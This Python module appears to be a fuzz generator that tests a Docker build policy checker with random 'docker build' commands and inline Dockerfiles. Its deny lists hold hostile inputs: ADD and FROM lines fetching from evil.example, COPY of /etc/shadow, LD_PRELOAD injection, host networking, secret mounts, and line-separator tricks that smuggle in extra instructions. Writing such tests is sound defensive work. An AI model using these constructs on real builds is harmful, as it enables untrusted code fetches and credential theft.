"""Dockerfiles from somebody who wants out; dockerjudge.py judges what docker sends of them."""

from __future__ import annotations

import random
from collections.abc import Iterator

from .answers import Answer, as_json
from .dockerjudge import TRAP
from .proof import Host, answers_of_a_host, image, permitted
from .soup import BAD_IMAGES, IMAGES

ABSENT = "alpine:missing"

GOOD: tuple[str, ...] = (
    "RUN echo made > /made", "RUN apk add --no-cache curl && rm -rf /tmp/*", 'RUN ["sh", "-c", "id"]', "RUN echo $HOME",
    "RUN echo a \\\n  # comment\n  b", "run id", "RUN echo '--mount=x'",
    "RUN echo $((1<<3)) $(( 1 << 3 ))", "RUN cat <<<x", "RUN python -c 'print(1<<3)'",
    "COPY --from=first /made /made", "COPY --from=0 /a /b", "ENV A=b", 'ENV A="b c" D=e',
    "ENV A b c",
    "ENV PATH=/x:$PATH", "ARG PYTHON_VERSION=3.12", "ARG BENCH_N=1", "WORKDIR /w", "USER 1000:1000", "EXPOSE 80 90/udp",
    "VOLUME /data", 'VOLUME ["/data"]', "LABEL bench.x=1", 'LABEL lab.a="b c"', "STOPSIGNAL SIGINT", 'CMD ["sh"]',
    "CMD id",
    'ENTRYPOINT ["ollama"]', 'SHELL ["/bin/sh", "-c"]', "HEALTHCHECK NONE", "HEALTHCHECK --interval=10s CMD true",
    "LABEL maintainer=me", "LABEL org.opencontainers.image.title='a b' bench.x=1",
    "MAINTAINER me", "# a comment", "", "   ", "RUN true;\\\n\\\n  false",
    "COPY --from=first --link --chmod=755 a /b", "WORKDIR w",
)  # fmt: skip
BAD: tuple[str, ...] = (
    "ADD http://127.0.0.1/ /x", "ADD a /b", "ADD --chown=1 https://evil.example/x /x", "add git@evil:x /x",
    "ONBUILD RUN id",
    "RUN --mount=type=bind,from=evil.example/x,target=/x id", "RUN --mount=type=secret,id=x cat /x",
    "RUN --network=host id",
    "RUN --security=insecure id", "RUN <<EOT\nid\nEOT", "RUN cat <<EOT\nADD http://127.0.0.1 /x\nEOT",
    "COPY <<EOT /x\na\nEOT",
    "COPY --from=evil.example/x /a /b", "COPY --from=alpine /etc/shadow /x", "COPY --from=1 /a /b",
    "COPY --from=$X /a /b",
    "COPY http://127.0.0.1/ /x", "ENV LD_PRELOAD=/x", "ENV A=b LD_PRELOAD=/x", "ENV LD_PRELOAD /x",
    'ENV "LD_PRELOAD"=/x',
    "ENV L\\\nD_PRELOAD=/x", "ENV $A=b", "ENV A=b\tLD_PRELOAD=/x", "ARG BUILDKIT_SYNTAX=evil.example/x",
    "ARG LD_PRELOAD=/x",
    "ENV A='b LD_PRELOAD=/x' NVIDIA_VISIBLE_DEVICES=all", "LABEL rshell.owner=0",
    "LABEL com.docker.compose.project=prod",
    'LABEL "rshell.owner"="0"', "LABEL bench.x=1 rshell.owner=0", "LABEL $X=y", "LABEL bench.x=1 \\\n rshell.owner=0",
    "LABEL maintainer=me rshell.owner=0", "LABEL org.opencontainers.image.x=y com.docker.compose.project=prod",
    "VOLUME []", 'VOLUME [""]', "LABEL maintainer.x=y",
    "WORKDIR /proc/self/fd/8", "WORKDIR ../../proc/self/fd/8", "WORKDIR $X", "VOLUME /proc", "VOLUME $X",
    "VOLUME /a/../proc",
    "USER $X", "USER a:b:c", "EXPOSE $X", "STOPSIGNAL $X", "HEALTHCHECK --interval=1ns CMD x",
    "HEALTHCHECK --x=y CMD z",
    "FROM evil.example/x", "FROM $X", "FROM --platform=linux/arm64 alpine", "FROM ${BASE:-alpine}", f"FROM {TRAP}",
    f"FROM {ABSENT}", "FROM alpine AS scratch", "FROM alpine AS alpine", "FROM context", "FROM first",
    "RUN a \\", "NOPE x",
    "COPY . /here", "COPY --chown=1:1 a b /c/", 'COPY ["a b", "/c"]', "COPY --link --chmod=755 a /b",
    "RUN \\<<EOT", "RUN <<-EOT",
    "RUN echo ${A:-<<EOT}", "RUN a << EOT\nid\nEOT", "RUN 3<<EOT", "RUN a<<EOT\nid\nEOT", "RUN echo 'a <<EOT'",
    "INCLUDE x", "RUN", "CMD", "FROM", "COPY a", "RUN a\\\\", "RUN a \\ ", "CROSS_BUILD x", "COPY --parents a b",
    "COPY --exclude=x a b", "COPY --link=false a b", "RUN\u00a0--mount=type=bind id", "RUN a\rADD http://127.0.0.1 /x",
    "RUN a\u2028ADD http://127.0.0.1 /x", "RUN a\x0bb", "RUN a\x85ADD b /c", "\ufeffADD a /b", "#syntax=evil.example/x",
    "RUN a `\nADD b /c", "COPY --from=first:latest /a /b", "COPY --from=FIRST /a /b", "ENV A=b\\\n# c\nLD_PRELOAD=/x",
)  # fmt: skip
HEADS = ("# syntax=evil.example/x", "#syntax = docker/dockerfile:1", "# escape=`", "#escape=`", "# check=skip=all",
         "// syntax=evil.example/x", '{"syntax": "evil.example/x"}', "#!/usr/bin/env x\n# syntax=evil.example/x",
         "# a comment\n# syntax=evil.example/x", "\n# syntax=evil.example/x", "# SYNTAX=evil.example/x",
         "# syntax=docker/dockerfile:1", "# syntax=docker/dockerfile:1\n# syntax=evil.example/x")  # fmt: skip
ARGS = ("ARG BENCH_N", "ARG BENCH_N=1", 'ARG PYTHON_VERSION="3.12"', "ARG B=alpine", "ARG B=evil.example/x", "ARG C=$B",
        "ARG B='$PYTHON_VERSION'", "ARG B='a b'", "ARG C=${B:-evil.example/x}", f"ARG D={TRAP}", "ARG TARGETARCH=x",
        "ARG B=python C=$B:$BENCH_N", "ARG B=a\\$B", "ARG BENCH_N='--platform=x'")  # fmt: skip
VARIABLES = ("$B", "${B}", "alpine:$BENCH_N", "python:${PYTHON_VERSION}-slim", "${B:-alpine}", "${B:+evil.example/x}",
             "$D", "$C AS x", "alpine:$TARGETARCH", "${B-alpine}", "alpine$$B", "alpine:${BENCH_N:-$B}", "$C",
             "$BENCH_N alpine", "alpine:\\$BENCH_N", "'$B'", "${C}/$B", "python:$PYTHON_VERSION")  # fmt: skip
OPTIONS: tuple[str, ...] = (
    "-t lab/x", "--tag=lab/y:1", "-q", "--no-cache", "--pull", "--rm", "--force-rm", "--build-arg PYTHON_VERSION=3.12",
    "--build-arg BENCH_N=1", "--label bench.x=1", "--target first", "--network none", "--shm-size 64m", "-m 1g",
    "--progress plain", "--compress", "--platform linux/amd64", "--ulimit nofile=10", "-f -", "--cpu-shares 2",
)  # fmt: skip
BAD_OPTIONS: tuple[str, ...] = (
    "-t ollama/ollama", "-t lab/x:a/b", "--network host", "--network container:web", "--build-arg HOME",
    "--security-opt x=y",
    "--build-arg BUILDKIT_SYNTAX=evil.example/x", "--build-arg LD_PRELOAD=/x", "--add-host a:host-gateway",
    "--secret id=x",
    "--label rshell.owner=0", "--label com.docker.compose.project=prod", "--cache-from evil.example/x",
    "-f ../files/env",
    "--iidfile out", "--output out", "--ssh default", "--cgroup-parent /", "--isolation x", "--squash", "--memory 100g",
    "--memory-swap -1", "--cpu-quota 9", "--ulimit nproc=-1", "--target ../x", "--build-context x=/",
    "--allow network.host",
    "--build-arg 'PYTHON_VERSION=3 --x'", "--label 'bench.x=1\nrshell.owner=0'", "-t lab/x -t vault",
    "--build-arg LEAKED",
)  # fmt: skip
MARKS = "\\`#$'\"<>=-[]{}|&;\t\n \r:,/@\u00a0"


class Writer:
    """He writes a Dockerfile and the line that sends it."""

    def __init__(self, chance: random.Random) -> None:
        self.random = chance

    def line(self) -> str:
        """A line with its here-document."""
        words = self.random.sample(OPTIONS, self.random.choice((0, 1, 2, 3)))
        if self.chance(0.08):
            words.append(self.random.choice(BAD_OPTIONS))
        context = "-" if not self.chance(0.02) else self.random.choice((".", "/", "https://evil.example/x.git", "- -"))
        text = self.text()
        if self.chance(0.15):
            at = self.random.randint(0, len(text))
            text = text[:at] + self.random.choice(MARKS) + text[at:]
        return f"docker build {' '.join(words)} {context} <<'EOF'\n{text}\nEOF\n"

    def chance(self, share: float) -> bool:
        return self.random.random() < share

    def text(self) -> str:
        """A Dockerfile: mostly what may be."""
        lines = [self.random.choice(HEADS)] if self.chance(0.06) else []
        if self.chance(0.1):
            lines.append("ARG BENCH_N=1")
        if self.chance(0.2):
            lines += self.random.sample(ARGS, self.random.randint(1, 3))
        lines.append(f"FROM {self.image()} AS first")
        lines += self.body()
        if self.chance(0.5):
            lines += [f"FROM {self.random.choice((self.image(), 'first', 'scratch'))}", *self.body()]
        if self.chance(0.2):
            lines.insert(self.random.randint(0, len(lines)), self.random.choice(BAD))
        return "\n".join(lines)

    def image(self) -> str:
        if self.chance(0.15):
            return self.random.choice(VARIABLES)
        return self.random.choice(BAD_IMAGES if self.chance(0.04) else IMAGES)

    def body(self) -> list[str]:
        lines = self.random.sample(GOOD, self.random.randint(0, 5))
        return [self.cased(line) for line in lines]

    def cased(self, line: str) -> str:
        """An instruction in other letters, or moved in."""
        first, blank, rest = line.partition(" ")
        style = self.random.randrange(8)
        if style == 0:
            first = first.lower()
        elif style == 1:
            blank = self.random.choice(("\t", "   ", " \\\n ", " \\\n\n ")) if blank else ""
        elif style == 2:
            return "  " + line
        return first + blank + rest


def dockerfile(chance: random.Random) -> str:
    """One line with its Dockerfile."""
    return Writer(chance).line()


def dockerfiles(host: Host, seed: int, first: int = 0) -> Iterator[str]:
    """Lines of `docker build` that the policy permits, each with its Dockerfile."""
    return permitted(host, dockerfile, f"dockerfile/{seed}", first, answers)


# -- the fake host ----------------------------------------------------------------------------


def answers(method: str, path: str, earlier: tuple[str, ...]) -> Answer:
    """An Engine with every image, one of them without a digest, one a trap."""
    if path == f"/images/{TRAP}/json":
        return as_json({**image(TRAP), "Config": {"OnBuild": ["ADD http://127.0.0.1 /x"]}})
    if path == "/images/alpine:latest/json":
        return as_json({**image("alpine"), "RepoDigests": []})
    return answers_of_a_host(method, path, earlier)
